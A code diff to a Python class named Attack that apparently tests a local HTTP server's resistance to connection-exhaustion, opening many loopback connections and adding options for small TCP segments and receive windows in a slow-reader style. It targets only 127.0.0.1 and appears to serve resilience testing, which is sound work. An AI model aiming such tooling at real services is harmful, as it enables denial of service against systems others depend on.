@@ -2,10 +2,22 @@
 
 import asyncio
 import collections
+import re
 import socket
 import time
 
 DISCOVERY = "/.well-known/openid-configuration"
+
+
+def has_status(data):
+    return b"\r\n" in data
+
+
+def is_whole(data):
+    """Whether an answer has come to its end, so that another may follow."""
+    head, end, body = data.partition(b"\r\n\r\n")
+    length = re.search(rb"(?i)\r\ncontent-length: *(\d+)", head)
+    return bool(end) and len(body) >= int(length[1] if length else 0)
 
 
 class Attack:
@@ -18,12 +30,19 @@ class Attack:
         self.seen = collections.Counter()
         self.loop = asyncio.get_running_loop()
 
-    async def connect(self, number=0):
-        """A socket from the address of this number; 200 connections share one."""
+    async def connect(self, number=0, takes_little=False):
+        """A socket from the address of this number; 200 connections share one.
+
+        For a peer that takes little at once the server's socket keeps little, too: short segments
+        and a small window from the start are what its size follows.
+        """
         block = number // 200
         link = socket.socket()
         link.setblocking(False)
         link.setsockopt(socket.SOL_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
+        if takes_little:
+            link.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 536)
+            link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
         link.bind((f"127.1.{block // 250}.{1 + block % 250}", 0))
         await self.loop.sock_connect(link, ("127.0.0.1", self.port))
         return link
@@ -32,11 +51,11 @@ class Attack:
         lines = [f"{method} {target} HTTP/1.1", f"Host: {self.host}", *fields, "", ""]
         return "\r\n".join(lines).encode()
 
-    async def status(self, link, seconds=20):
+    async def status(self, link, seconds=20, is_enough=has_status):
         """The status of the next answer, `closed` when there is none, `silent` after a while."""
         data = b""
         try:
-            while b"\r\n" not in data:
+            while not is_enough(data):
                 part = await asyncio.wait_for(self.loop.sock_recv(link, 65536), seconds)
                 if not part:
                     return "closed"
@@ -46,6 +65,24 @@ class Attack:
         except OSError:
             return "closed"
         return data[9:12].decode()
+
+    async def ask(self, link, request, seconds=20):
+        """Sends, and reads the answer to its end: `status` of it."""
+        try:
+            await self.loop.sock_sendall(link, request)
+        except ConnectionError:
+            return "closed"
+        return await self.status(link, seconds, is_whole)
+
+    async def leave(self, link, seconds=10):
+        """Closes when the server has closed, so that it counts this connection no more."""
+        with link:
+            try:
+                link.shutdown(socket.SHUT_WR)
+                while await asyncio.wait_for(self.loop.sock_recv(link, 65536), seconds):
+                    pass
+            except OSError:
+                pass  # Also a TimeoutError.
 
     async def note(self, body):
         try:
@@ -63,11 +100,11 @@ class Attack:
 
         await asyncio.gather(*(one(number) for number in range(count)))
 
-    async def until(self, end, workers, body):
+    async def until(self, end, workers, body, wants_more=lambda: False):
         """Runs `body(number)` again and again in so many tasks."""
 
         async def worker(number):
-            while time.monotonic() < end:
+            while time.monotonic() < end or wants_more():
                 await self.note(body(number))
                 await asyncio.sleep(0.01)
 
